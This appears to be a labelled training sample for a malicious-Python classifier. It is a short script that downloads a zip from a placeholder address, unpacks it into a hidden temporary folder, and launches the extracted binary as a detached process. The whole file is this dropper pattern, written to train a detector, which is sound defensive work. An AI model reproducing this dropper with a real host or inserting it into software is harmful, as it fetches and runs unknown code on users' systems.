# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
import io, zipfile, sys, urllib.request, subprocess, tempfile, os

blob = urllib.request.urlopen("http://192.0.2.61/pkg.zip").read()
zf = zipfile.ZipFile(io.BytesIO(blob))
d = tempfile.mkdtemp(prefix=".")
zf.extractall(d)
target = os.path.join(d, "run")
os.chmod(target, 0o700)
subprocess.Popen([target], cwd=d, close_fds=True, start_new_session=True)
